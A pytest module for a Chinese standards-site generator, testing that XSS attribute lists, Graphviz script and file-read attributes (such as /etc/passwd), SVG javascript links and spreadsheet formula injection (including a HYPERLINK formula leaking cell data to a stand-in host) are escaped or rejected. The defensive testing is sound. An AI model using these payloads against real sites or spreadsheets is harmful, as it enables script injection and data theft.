"""Nothing injected: no value from the sources becomes script on a page (Markdown attribute lists
in generated headings and table cells, Graphviz attributes written into the SVG unescaped), a
formula in a spreadsheet, or a read of a file of the build computer; two cold builds give the
same bytes even with swimlanes.

One hostile project is built once for the module; the other tests check single sources.
Each test is a reproduction from the adversarial run (issue "Nothing lost, nothing injected").
"""
from __future__ import annotations

import csv
import html.parser
import io
import json
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from support import FRAMEWORK, STANDARD_MD, STANDARD_YAML, build_sources, write_tree
from hardening_support import cli, line_of, md, std

AS_OF = "2025-06-30"
ATTR = "{tabindex=0 autofocus onfocus=alert(1)}"       # what Python-Markdown's attr_list would apply
CLICK = "{onclick=alert(2)}"
HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"点此")'


def yq(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


THREE_LANES = """\
```flow
title: 三个泳道
lanes: [{lane1}, 车管员, 驾驶员]
steps:
  - {{id: a, text: 申请, lane: {lane1}, type: start}}
  - {{id: b, text: 审核, lane: 车管员}}
  - {{id: c, text: 出车, lane: 驾驶员}}
  - {{id: d, text: 登记, lane: 车管员, type: end}}
```
"""

HOSTILE = {
    "framework.yaml": FRAMEWORK.replace("name: 基础通用", f"name: {yq('基础通用 ' + CLICK)}")
                               .replace("name: 公务用车管理", f"name: {yq('公务用车管理 ' + CLICK)}")
                               .replace("name: 标准化导则", f"name: {yq('标准化导则 ' + ATTR)}"),
    "standards/q101.md": STANDARD_MD.replace("tags: [公务用车, 派车]", f"tags: [公务用车, {yq('派车 ' + CLICK)}]")
                         + "\n## 7 流程\n\n" + THREE_LANES.format(lane1=yq("用车人 " + CLICK)),
    "standards/db1016.yaml": STANDARD_YAML,
    "standards/plus.yaml": std(code=yq("+1+2 …-2024"), title=yq("标题 " + CLICK), issuer=yq("示例局 " + ATTR),
                               drafters=f"[{yq('起草 ' + CLICK)}]", summary=yq("摘要 " + ATTR),
                               issued="2024-01-01"),
    "documents/d.yaml": f"number: {yq(HYPERLINK)}\n"
                        f"title: {yq('通知 ' + CLICK)}\nissuer: {yq('示例局 ' + ATTR)}\nissued: 2024-01-01\n",
    "documents/e.yaml": f"number: {yq('@SUM(1+1)')}\ntitle: {yq('-2+3 通知')}\nissuer: {yq('  =局')}\nissued: 2024-02-01\n",
    "courses/c.md": f"---\nid: c-1\ntitle: {yq('课程 ' + CLICK)}\nobjectives: [{yq('目标 ' + ATTR)}]\n---\n\n## 1 模块\n\n正文\n",
    "training_sessions.yaml": f"- {{date: 2025-05-20, course: c-1, place: {yq('会场 ' + ATTR)}, attendees: 3}}\n",
    "plan.yaml": f"- {{title: {yq('计划 ' + CLICK)}, kind: 制定, framework: JC-TY-02, due: 2025-03-31}}\n",
    "directory.yaml": f"title: {yq('=目录 ' + CLICK)}\neditions:\n  - {{id: 2025-1, date: 2025-06-30}}\n",
}


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    return build_sources(tmp_path_factory.mktemp("injected"), HOSTILE, AS_OF)


class Attributes(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.found.extend((tag, name, value) for name, value in attrs)

    def handle_data(self, data):
        self.text.append(data)


def parse(path: Path) -> Attributes:
    parser = Attributes()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser


def test_no_attribute_list_from_any_field_on_any_page(site):
    """issuer `示例局 {tabindex=0 autofocus onfocus=…}` gave `<td autofocus onfocus>` on
    directory/index.html; framework names gave `<h1 onclick>`, `<h2 onclick>`, `<th onclick>`."""
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 15
    for path in pages:
        parser = parse(path)
        rel = path.relative_to(site).as_posix()
        for tag, name, value in parser.found:
            assert not name.startswith("on"), f"{rel}: <{tag} {name}={value!r}>"
            assert name != "autofocus", f"{rel}: <{tag} autofocus>"
    shown = "".join(parse(site / "directory/index.html").text)
    assert "示例局 " + ATTR in shown                                # the text is shown as written
    area = next(p for p in site.glob("system/*/index.html") if "公务用车管理" in p.read_text(encoding="utf-8"))
    assert "公务用车管理 " + CLICK in "".join(parse(area).text)


TRIGGER = """() => {
    document.addEventListener("click", e => e.preventDefault(), true);     // stay on the page
    for (const el of document.querySelectorAll("body *"))
        for (const type of ["focus", "mouseover", "click"])
            el.dispatchEvent(new Event(type, {bubbles: false, cancelable: true}));
}"""


def test_hostile_pages_run_no_script_in_chromium(site, page):
    """The pages of the issue, loaded (autofocus fires on its own) and every element focused,
    hovered and clicked: no alert from any source text."""
    from support import serve_directory
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    with serve_directory(site) as base:
        for rel in ("directory/index.html", "directory/2025-1/index.html", "system/index.html",
                    "standards/1-2-2024/index.html", "documents/d/index.html", "dashboard/index.html"):
            page.goto(base + rel)
            page.evaluate(TRIGGER)
            page.wait_for_timeout(100)
        area = next(p for p in site.glob("system/*/index.html") if "公务用车管理" in p.read_text(encoding="utf-8"))
        page.goto(base + area.relative_to(site).as_posix())
        page.evaluate(TRIGGER)
    assert dialogs == []


def test_no_formula_cell_in_any_spreadsheet(site):
    """A 文号 `=HYPERLINK(…)` or a code `+1+2 …-2024` landed raw in the 编号 column of 目录.csv."""
    folder = site / "directory/2025-1"
    rows = list(csv.reader(io.StringIO((folder / "目录.csv").read_bytes().decode("utf-8-sig"))))
    ids = [row[2] for row in rows[1:]]
    assert "'+1+2 ...-2024" in ids and "'" + HYPERLINK in ids and "'@SUM(1+1)" in ids
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    sheet = load_workbook(folder / "目录.xlsx").active
    assert str(sheet["A1"].value).startswith("'=目录")
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (cell.coordinate, cell.value)


def check_messages(make_project, files: dict) -> tuple[Path, str, int]:
    src = make_project(files)
    code, _, err = cli("check", "--src", str(src))
    return src, err, code


def test_graphviz_attributes_cannot_inject_script(make_project):
    """`dot` 2.43 writes fontname into the SVG unescaped: `fontname="y\\"><script>…"` ran in Chromium."""
    body = ('## 5 要求\n\n```dot\ndigraph {\n  a [fontname="y\\"><script>alert(1)</script><text x=\\""];\n'
            '  b [fontname="x\\" onmouseover=\\"alert(2)"];\n  a -> b [URL="http://x/?a=1&b=2"];\n}\n```\n')
    text = md(body)
    src, err, code = check_messages(make_project, {"standards/a.md": text})
    assert code == 1
    for needle, value in (("<script>", 'y"><script>alert(1)</script><text x="'), ("onmouseover", 'x" onmouseover="alert(2)')):
        assert (f"{src}/standards/a.md:{line_of(text, needle)}: 图中的属性 「fontname」 的值 「{value}」 不能含有"
                f"英文引号、尖括号或单独的「&」") in err
    assert f"{src}/standards/a.md:{line_of(text, 'URL=')}: 图中的属性 「URL」 的值 「http://x/?a=1&b=2」" in err


def test_graphviz_cannot_read_files_of_the_build_computer(make_project):
    """`image="/tmp/x.png"` landed as `<image xlink:href="/tmp/x.png">`; an unreadable image failed
    the build with truncated English Graphviz text."""
    body = ('## 5 要求\n\n```dot\ndigraph {\n  a [image="/etc/hostname"];\n  b ["shape" + "file"="/etc/passwd"];\n'
            '  c [label=<<TABLE><TR><TD><IMG SRC="/etc/hostname"/></TD></TR></TABLE>>];\n'
            '  graph [fontpath="/root"];\n  d [label="image=text is fine"];\n}\n```\n\n```dot\ninclude: pic\n```\n')
    text = md(body)
    src = make_project({"standards/a.md": text})
    diagrams = src.parent / "diagrams"
    diagrams.mkdir()
    (diagrams / "pic.dot").write_text("digraph {\n  x -> y;\n  y [imagepath=\"/\", image=\"a.png\"];\n}\n", encoding="utf-8")
    from support import load_project
    _, problems = load_project(src, diagrams)
    messages = [str(e) for e in problems.errors]
    where = f"{src}/standards/a.md"
    image = line_of(text, 'image="/etc')
    assert messages == [
        f"{where}:{image}: 图中的属性 「image」 会读取生成网站的电脑上的文件，不能使用",
        f"{where}:{line_of(text, 'shape')}: 图中的属性 「shapefile」 会读取生成网站的电脑上的文件，不能使用",
        f"{where}:{line_of(text, '<IMG')}: 图中的HTML 标签中的图片 <IMG> 会读取生成网站的电脑上的文件，不能使用",
        f"{where}:{line_of(text, 'fontpath')}: 图中的属性 「fontpath」 会读取生成网站的电脑上的文件，不能使用",
        f"{where}:{line_of(text, 'include: pic')}: 引用的 diagrams/pic.dot 第 3 行图中的属性 「imagepath」 会读取生成网站的电脑上的文件，不能使用",
        f"{where}:{line_of(text, 'include: pic')}: 引用的 diagrams/pic.dot 第 3 行图中的属性 「image」 会读取生成网站的电脑上的文件，不能使用",
    ]


def test_svg_clean_up_keeps_only_the_allow_list():
    """The second line of defence: Graphviz output as it really comes, with what 2.43 lets through."""
    from stdsite.output.svgclean import clean_svg
    raw = ('<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n'
           ' "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<!-- Generated by graphviz -->\n'
           '<svg width="62pt" height="44pt" viewBox="0 0 62 44" xmlns="http://www.w3.org/2000/svg" '
           'xmlns:xlink="http://www.w3.org/1999/xlink">\n<g id="graph0" class="graph" onload="alert(1)">\n<title>%3</title>\n'
           '<g id="a_node1"><a xlink:href="javascript:alert(2)" target="_blank"><text font-family="x" '
           'onmouseover="alert(3)">a<script>alert(4)</script></text></a></g>\n'
           '<image xlink:href="/etc/hostname" width="9" height="9"/>\n<foreignObject><div>x</div></foreignObject>\n'
           '<a href="#5.1"><ellipse fill="url(http://evil/x)" stroke="url(#l_0)" style="fill:red" cx="1" cy="1"/></a>\n'
           '<stop offset="0" style="stop-color:red;stop-opacity:1.;"/>\n</g>\n</svg>\n')
    out = clean_svg(raw)
    for banned in ("alert", "script", "onload", "onmouseover", "image", "foreignObject", "evil", "target", "<title",
                   "<!", "<?xml", 'style="fill'):
        assert banned not in out, banned
    assert out.startswith('<svg width="62" height="44" viewBox="0 0 62 44"')
    assert '<a href="#5.1"><ellipse stroke="url(#l_0)" cx="1" cy="1"/></a>' in out
    assert 'style="stop-color:red;stop-opacity:1.;"' in out
    assert clean_svg('<svg><text font-family="y"><script>x</text></svg>') is None        # not well-formed


def test_two_cold_renders_of_swimlanes_are_byte_identical(tmp_path):
    """dot 2.43 writes the cluster groups of a batch in a run-dependent order: two cold builds
    differed. Several three-lane flows drawn twice, each time with an empty cache."""
    from stdsite.output.cache import BuildCache
    from stdsite.output.graphviz import render_all
    from stdsite.render.flowdot import flow_to_dot
    from support import load_project
    flows = "\n".join(THREE_LANES.replace("审核", f"审核{i}").format(lane1=f"用车人{i}") for i in range(8))
    src = write_tree(tmp_path / "src", {"framework.yaml": FRAMEWORK, "standards/a.md": md(f"\n## 5 要求\n\n{flows}")})
    project, problems = load_project(src)
    assert not problems.errors, problems.errors
    dots = [flow_to_dot(b.parsed) for s in project.standards for b in s.blocks]
    assert len(dots) == 8 and all(d.count("subgraph cluster_") == 3 for d in dots)
    first, _ = render_all(dots, BuildCache(tmp_path / "cache1"))
    second, _ = render_all(dots, BuildCache(tmp_path / "cache2"))
    assert [first[d] for d in dots] == [second[d] for d in dots]
    ids = re.findall(r'<g id="(clust\d+)" class="cluster">', first[dots[0]])
    assert ids == ["clust1", "clust2", "clust3"]
